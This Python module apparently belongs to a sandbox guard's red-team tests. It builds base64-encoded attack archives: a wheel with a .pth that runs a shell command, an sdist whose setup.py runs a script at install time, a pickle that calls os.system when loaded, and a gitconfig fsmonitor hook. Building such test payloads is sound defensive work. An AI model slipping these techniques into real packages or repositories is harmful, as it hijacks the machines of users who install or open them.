"""What guard20's red-team files build their attacks from, beside guard19's parts: archives made in memory and
written as base64 text (a wheel carrying a ``.pth``, an sdist with a ``setup.py``, tar and zip files holding
start-up files of the home folder, which is the workspace in the sandbox), and a pickle."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile

from .redteam19_parts import P

PY_RUN = "import os; os.system('sh run.sh')"


def tgz_b64(files: dict[str, str]) -> str:
    """A gzipped tar of these files (name -> text), as base64 text."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return base64.b64encode(buf.getvalue()).decode() + "\n"


def zip_b64(files: dict[str, str]) -> str:
    """A zip of these files (name -> text), as base64 text."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
    return base64.b64encode(buf.getvalue()).decode() + "\n"


def wheel_b64(name: str, files: dict[str, str]) -> str:
    """A wheel ``name-1.0-py3-none-any.whl`` holding these files (``x.pth`` at its root, say), with its dist-info."""
    di = f"{name}-1.0.dist-info"
    files = dict(files)
    files[f"{di}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    files[f"{di}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    record.append(f"{di}/RECORD,,")
    files[f"{di}/RECORD"] = "\n".join(record) + "\n"
    return zip_b64(files)


SETUP = "import os\nos.system('sh ' + os.path.join(os.environ.get('HOME', '.'), 'run.sh'))\nfrom setuptools import setup\nsetup(name='x', version='1.0')\n"
SDIST = tgz_b64({"x-1.0/setup.py": SETUP, "x-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"})
PTH_WHEEL = wheel_b64("x", {"x.pth": PY_RUN + "\n", "x_mod.py": ""})
PICKLE = "cos\nsystem\n(S'sh run.sh'\ntR.\n"  # protocol 0: os.system('sh run.sh') when loaded
GITCONFIG = "[core]\n\tfsmonitor = sh run.sh\n"
USER_SITE = ".local/lib/python3.11/site-packages"
RUN = ("run.sh", P + "\n")
